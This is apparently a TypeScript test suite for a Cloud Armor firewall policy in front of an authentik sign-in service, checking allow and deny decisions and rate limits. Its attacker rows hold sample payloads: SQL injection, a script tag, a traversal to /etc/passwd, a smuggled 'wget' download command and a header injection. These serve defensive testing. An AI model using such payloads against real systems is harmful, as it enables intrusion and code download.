import { PROTECTION_RULES } from "../../../lib/platform/domain/protection-rules";
import { CloudArmor, type Protection, type Request } from "./cloud-armor";

const ADMINISTRATOR = "203.0.113.9";

/** Every rule of the table, with attacks refused. */
const EVERYTHING: Protection = {
  adminRanges: ["203.0.113.0/24", "2001:db8:1::/48"],
  trustedRanges: ["192.0.2.0/24"],
  restrictAdmin: true,
  waf: "enforce",
};

const FLOW = "/api/v3/flows/executor/default-authentication-flow/";

const get = (path: string, query = ""): Request => ({ path, query });
const post = (path: string, body = "", query = ""): Request => ({ method: "POST", path, query, body });
const step = (answer: object): Request => post(FLOW, JSON.stringify(answer), "query=next%3D%252Fapplication%252F");
const by = (from: string, request: Request): Request => ({ ...request, from });
const named = (agent: string, request: Request): Request => ({ ...request, headers: { "user-agent": agent } });

const AUTHORIZE = "client_id=grafana&scope=openid+profile&redirect_uri=https%3A%2F%2Fgrafana.example.com%2Flogin";

/** Base64 has every pair of letters sooner or later. */
const SAML_MESSAGE = "SAMLResponse=fZJNb4MwDIbvlfYfEPcCoR1I%2Bor1=%2FxB";

type Row = readonly [behaviour: string, request: Request, action: string, rule: string];

/** Rows of which one rule decides all, in one way. */
const decided = (
  action: string,
  rule: string,
  cases: readonly (readonly [behaviour: string, request: Request])[],
): Row[] => cases.map(([behaviour, request]) => [behaviour, request, action, rule]);

const VISITORS: readonly Row[] = [
  ...decided("allow", "requests", [
    ["opens a sign-in page on its way", get("/if/flow/a/", `next=${encodeURIComponent(`/authorize/?${AUTHORIZE}`)}`)],
    ["comes back from another identity provider", get("/source/oauth/callback/google/", "code=4%2F0AX4&state=Zm9v")],
  ]),
  ...decided("allow", "sign-ins", [
    ["submits a name with an apostrophe", step({ uid_field: "o' or 1=1" })],
    ["submits a password that looks like an attack", step({ password: "' or 1=1; drop table <script>$(../)" })],
  ]),
];

const TRUSTED = "192.0.2.7";

const FILES = decided("allow", "files", [
  ["a stylesheet", get("/static/dist/authentik.css")],
  ["an uploaded icon", get("/files/media/public/icon.png")],
  ["how the application is", get("/-/health/live/")],
]);

const SERVERS: readonly Row[] = [
  ...decided("allow", "trusted-ranges", [
    ["an outpost in a trusted range signs somebody in", by(TRUSTED, step({ uid_field: "jane" }))],
    ["a relying party in a trusted range asks for the keys", by(TRUSTED, get("/application/o/grafana/jwks/"))],
  ]),
  ...decided("deny(403)", "administration", [
    ["an office in a trusted range opens the administration", by(TRUSTED, get("/if/admin/"))],
  ]),
  ...decided("allow", "requests", [
    ["a browser is sent to authorize", get("/application/o/authorize/", AUTHORIZE)],
    ["a SAML application sends a request", post("/application/saml/wiki/sso/binding/post/", SAML_MESSAGE)],
    ["another SAML identity provider answers", post("/source/saml/partner/acs/", SAML_MESSAGE)],
    ["another directory asks for a user", get("/source/scim/hr/v2/Users", "filter=userName+eq+%22a%22+or+1=1")],
  ]),
  ...decided("allow", "default", [
    ["a relying party exchanges a code", post("/application/o/token/", "grant_type=authorization_code&code=abc")],
    ["an outpost keeps a web socket", named("goauthentik.io/outpost/2026.5.4", get("/ws/outpost/3f2504e0/"))],
  ]),
];

const ADMINISTRATION: readonly Row[] = [
  ...decided("deny(403)", "administration", [
    ["opens the administration", get("/if/admin/")],
    ["writes a letter as its code", get("/if/%61dmin/")],
    ["writes an expression", post("/api/v3/policies/expression/", "import os")],
    ["from next to its range: opens the administration", by("203.0.114.9", get("/if/admin/"))],
  ]),
  ...decided("deny(403)", "administration-code", [
    ["writes an expression into a prompt", post("/api/v3/stages/prompt/prompts/", "import os")],
  ]),
  ...decided("allow", "requests", [["uses a part of the API that pages for users need", get("/api/v3/core/users/")]]),
  ...decided("allow", "admin-ranges", [
    ["from its range: opens the administration", by(ADMINISTRATOR, get("/if/admin/"))],
    ["from its IPv6 range: opens the administration", by("2001:db8:1::5", get("/if/admin/"))],
  ]),
];

const ATTACKERS: readonly Row[] = [
  ...decided("deny(403)", "sqli", [
    ["SQL in a parameter", get("/if/flow/a/", "next=%27+or+1=1--")],
    ["an encoded path that is passed over by its plain form alone", get("/%61pi/v3/core/users/", "search=' or 1=1")],
  ]),
  ...decided("deny(403)", "xss", [["a script in a parameter", get("/if/flow/a/", "next=%3Cscript%3E")]]),
  ...decided("deny(403)", "lfi", [["a way out of the folder", get("/static/../../etc/passwd")]]),
  ...decided("deny(403)", "rce", [["a command", get("/cgi-bin/status", "a=;wget http://203.0.113.5/x")]]),
  ...decided("deny(403)", "scannerdetection", [["a scanner", named("sqlmap/1.8", get("/"))]]),
  ...decided("deny(403)", "protocolattack", [["a second header", get("/", "next=a%0d%0aSet-Cookie: a=b")]]),
  ...decided("allow", "requests", [["SQL where nobody looks", get("/api/v3/core/users/", "search=' or 1=1")]]),
];

const ALL = [...VISITORS, ...FILES, ...SERVERS, ...ADMINISTRATION, ...ATTACKERS];

describe.each([
  ["A visitor", VISITORS],
  ["A browser asks for", FILES],
  ["On behalf of users,", SERVERS],
  ["An administrator", ADMINISTRATION],
  ["An attacker tries", ATTACKERS],
])("%s", (_, rows) => {
  it.each(rows)("%s", (__, request, action, rule) => {
    expect(new CloudArmor(EVERYTHING).decide(request)).toEqual({ action, rule, noted: [] });
  });
});

describe("The rules of the protection", () => {
  it("each decide about a request above", () => {
    const deciding = new Set(ALL.map(([, , , rule]) => rule));
    expect(PROTECTION_RULES.map(({ id }) => id).filter((id) => !deciding.has(id))).toEqual([]);
  });

  it("by default refuse nobody, and log what they would refuse", () => {
    const content = ["sqli", "xss", "lfi", "rce", "scannerdetection", "protocolattack"];
    const armor = () => new CloudArmor({});
    expect(ALL.map(([, request]) => armor().decide(request).action)).toEqual(ALL.map(() => "allow"));
    const noted = ALL.map(([, request]) => armor().decide(request).noted[0]);
    expect(noted).toEqual(ALL.map(([, , , rule]) => (content.includes(rule) ? rule : undefined)));
  });

  it("have unique priorities, with room for all ranges", () => {
    const priorities = PROTECTION_RULES.map(({ priority }) => priority);
    expect(priorities).toEqual([...new Set(priorities)].sort((a, b) => a - b));
    for (const [index, { match, priority }] of PROTECTION_RULES.entries()) {
      if (typeof match === "string" && match !== "everything")
        expect((priorities[index + 1] ?? 0) - priority).toBeGreaterThanOrEqual(100);
    }
  });

  it("are no longer than Cloud Armor takes", () => {
    for (const { match } of PROTECTION_RULES) {
      if (typeof match === "string") continue;
      expect(match.expression.split(/ && | \|\| /).length).toBeLessThanOrEqual(5);
      expect(match.expression.length).toBeLessThanOrEqual(2048);
    }
  });

  describe("by default", () => {
    /** First visits from one address within a minute: a hundred files, twenty requests, and a sign-in of four forms. */
    const visits = (people: number) =>
      Array.from({ length: people }, () => [
        ...Array.from({ length: 100 }, (_, file) => get(`/static/dist/chunk-${file}.js`)),
        ...Array.from({ length: 16 }, () => get("/api/v3/root/config/")),
        ...Array.from({ length: 4 }, () => step({ uid_field: "jane" })),
      ]).flat();
    const refused = (protection: Protection, requests: readonly Request[]) => {
      const armor = new CloudArmor(protection);
      return requests.map((request) => armor.decide(request)).filter(({ action }) => action !== "allow").length;
    };

    it("let sixty people of an office sign in within the same minute, and somebody who guesses no longer", () => {
      expect(refused({}, visits(60))).toBe(0);
      const guesses = Array.from({ length: 300 }, () => step({ password: "guess" }));
      expect(refused({}, guesses)).toBe(60);
      expect(refused({ trustedRanges: ["198.51.100.0/24"] }, guesses)).toBe(0);
      expect(refused({ previewLimits: true }, guesses)).toBe(0);
    });

    it("limit a path that only begins in a folder of files", () => {
      const around = get("/static/%2e%2e/api/v3/core/users/");
      expect(new CloudArmor({ waf: "off" }).decide(around).rule).toBe("requests");
    });

    it("note what limits in preview would have refused", () => {
      const armor = new CloudArmor({ previewLimits: true, signInsPerMinute: 1 });
      const notes = [step({}), step({})].map((request) => armor.decide(request).noted);
      expect(notes).toEqual([[], ["sign-ins"]]);
    });
  });
});
